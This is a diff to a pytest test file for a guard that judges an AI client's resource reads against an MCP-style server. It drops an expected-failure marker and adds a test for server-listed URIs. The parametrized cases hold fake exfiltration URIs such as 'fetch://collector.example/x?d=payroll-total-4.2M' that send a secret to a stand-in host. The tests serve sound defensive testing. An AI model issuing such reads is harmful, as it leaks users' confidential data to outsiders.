@@ -18,10 +18,11 @@ import pytest
 from tests.attacks.client import Attacker, Scripted, write_config
 
 DATA = "payroll-total-4.2M"
+LISTED = {"uri": "repo://github.com/octo/hello/README.md", "name": "readme"}  # names a host, listed by the server
 
 
 def _server(tmp_path) -> tuple[Scripted, object]:
-    spec = Scripted(tmp_path / "web.json", resources=[{"uri": "note://a", "name": "a"}],
+    spec = Scripted(tmp_path / "web.json", resources=[{"uri": "note://a", "name": "a"}, LISTED],
                     resourceTemplates=[{"uriTemplate": "https://{+rest}", "name": "web page"},
                                        {"uriTemplate": "fetch://{+url}", "name": "fetched page"}],
                     read={"result": {"contents": [{"uri": "note://a", "text": "ok"}]}})
@@ -35,8 +36,6 @@ def _server(tmp_path) -> tuple[Scripted, object]:
     f"fetch://collector.example/x?d={DATA}",
     f"fetch://https%3A%2F%2Fcollector.example%2Fx%3Fd%3D{DATA}",
 ])
-@pytest.mark.xfail(strict=True, reason="s12 attacker: check_read judges a resource URI as a fetch only by its "
-                   "`http(s)://` prefix")
 def test_a_read_naming_a_host_found_nowhere_is_asked_whatever_its_scheme(tmp_path, uri):
     spec, config = _server(tmp_path)
     with Attacker(config, "--intent", "Read my note a") as client:
@@ -46,3 +45,12 @@ def test_a_read_naming_a_host_found_nowhere_is_asked_whatever_its_scheme(tmp_pat
         client.request("resources/read", {"uri": uri})
         client.request("resources/read", {"uri": "note://a"})  # the server's own resource goes nowhere else
     assert [m["params"]["uri"] for m in spec.received("resources/read")] == ["note://a"]
+
+
+def test_a_uri_the_server_listed_is_its_own_even_when_it_names_a_host(tmp_path):
+    spec, config = _server(tmp_path)
+    with Attacker(config, "--intent", "Read my note a") as client:
+        client.open()
+        client.request("resources/list")
+        client.request("resources/read", {"uri": LISTED["uri"]})
+    assert [m["params"]["uri"] for m in spec.received("resources/read")] == [LISTED["uri"]]
